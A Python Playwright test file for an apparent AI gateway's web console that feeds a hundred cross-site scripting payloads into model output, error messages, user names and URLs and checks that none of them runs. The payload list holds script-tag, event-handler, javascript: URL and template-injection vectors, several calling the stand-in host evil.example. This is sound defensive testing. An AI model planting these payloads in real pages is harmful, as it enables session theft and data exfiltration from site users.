"""Words of models, keys, tags, users and errors are shown as words: a hundred payloads, and none of them runs.

Each payload would call `alert` or write `window.pwned`; the page's own policy would stop most of them, so what it stopped
is counted as well: nothing may even try.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.browser.chromium import Watch, open_context
from tests.browser.world import World
from tests.simulator import Fault, Say, Thinking, ToolCall

CALLS = ("alert(1)", "window.pwned=1", "fetch('//evil.example')", "parent.pwned=1")
SHAPES = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href='javascript:{0}'>look</a>",
    "[look](javascript:{0})",
    "![look](x' onerror='{0})",
    "![remote](https://evil.example/pixel.png?{0})",
    "<style>@import'//evil.example/{0}'</style>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<details open ontoggle={0}>",
    "<body onload={0}>",
    "<form action='javascript:{0}'><button>go</button></form>",
    "<object data='javascript:{0}'></object>",
    "<base href='//evil.example/'><script src='{0}'></script>",
    '"><script>{0}</script>',
    "' autofocus onfocus={0} x='",
    "</title></textarea></script><script>{0}</script>",
    "<template><script>{0}</script></template>",
    "<input autofocus onfocus={0}>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "<link rel=stylesheet href='//evil.example/{0}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<video><source onerror={0}></video>",
    "\u202e<script>{0}</script>\u2028",
)
PAYLOADS = tuple(shape.format(call) for shape in SHAPES for call in CALLS)


class Trap:
    """A page that notices whatever a payload could do: a dialog, a global, a request elsewhere, a stopped attempt."""

    def __init__(self, page: Page, own: str) -> None:
        self.page = page
        self.watch = Watch(page)
        self.sprung: list[str] = []
        page.on("dialog", self._meet)
        page.on("request", lambda request: self._see(request.url, own))

    def _meet(self, dialog: Dialog) -> None:
        self.sprung.append(dialog.message)
        dialog.dismiss()

    def _see(self, url: str, own: str) -> None:
        if not url.startswith((own, "data:", "blob:")):
            self.sprung.append(url)

    def check(self) -> None:
        """Nothing has run, and nothing has tried to."""
        assert self.sprung == []
        assert self.watch.errors == []
        assert self.page.evaluate("window.pwned") is None
        foreign = (
            "iframe, object, embed, base, meta[http-equiv], img[src^='http'], a[href^='javascript'], script:not([src])"
        )
        assert self.page.locator(foreign).count() == 0


@pytest.fixture
def trap(browser: Browser, world: World, signed_in: str) -> Iterator[Trap]:
    context = open_context(browser, world.url, state=signed_in)
    trapped = Trap(context.new_page(), world.url)
    yield trapped
    trapped.check()
    context.close()


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


def test_words_of_a_model_are_text_in_the_playground(trap: Trap, world: World) -> None:
    everything = "\n".join(PAYLOADS)
    call = ToolCall("look", json.dumps({"at": everything}))
    world.simulator.script(Say(parts=(Thinking(everything), everything, call), piece_size=400), model="gpt-5-mini")
    trap.page.goto("/console/playground?model=openai%2Fgpt-5-mini")
    trap.page.get_by_label("Message").fill("Say something.")
    trap.page.get_by_role("button", name="Send").click()
    trap.page.get_by_role("button", name="Bytes").wait_for()
    lane = trap.page.get_by_role("region", name="Model 1")
    for payload in PAYLOADS:
        assert payload in lane.inner_text()
    trap.page.get_by_role("button", name="Bytes").click()
    trap.page.get_by_label("The answer's bytes").wait_for()


def test_words_of_a_failing_provider_are_text(trap: Trap, world: World) -> None:
    for payload in PAYLOADS[::5]:
        world.simulator.script(fault=Fault(status=400, message=payload), model="gpt-5-mini")
    trap.page.goto("/console/playground?model=openai%2Fgpt-5-mini")
    for payload in PAYLOADS[::5]:
        trap.page.get_by_label("Message").fill("Fail.")
        trap.page.get_by_role("button", name="Send").click()
        trap.page.get_by_role("button", name="Send").wait_for()
        trap.page.get_by_role("alert").filter(has_text=payload[-12:].strip()).first.wait_for()


def test_names_that_clients_choose_are_text_on_every_page(trap: Trap, world: World) -> None:
    for payload in PAYLOADS:
        ascii_payload = payload.encode("ascii", "replace").decode()
        world.chat(ascii_payload[:200], user=payload)  # a model that nobody has, named by the payload
    for path in ("exchanges", "overview?minutes=15", "usage?by=route", "usage?by=user", "usage?by=tag", "audit"):
        trap.page.goto(f"/console/{path}")
        trap.page.get_by_role("table").first.wait_for()
        for tab in trap.page.get_by_role("tab").all():
            tab.click()
        trap.check()


def test_addresses_are_text(trap: Trap, world: World) -> None:
    queries = ["".join(f"%{byte:02x}" for byte in payload.encode()) for payload in PAYLOADS[::4]]
    for query in queries:
        trap.page.goto(f"/console/exchanges?text={query}&model={query}")
        trap.page.get_by_role("heading", name="Nothing matches").wait_for()
    trap.page.goto(f"/console/exchanges/{queries[0]}")
    trap.page.get_by_role("alert").wait_for(timeout=60_000)
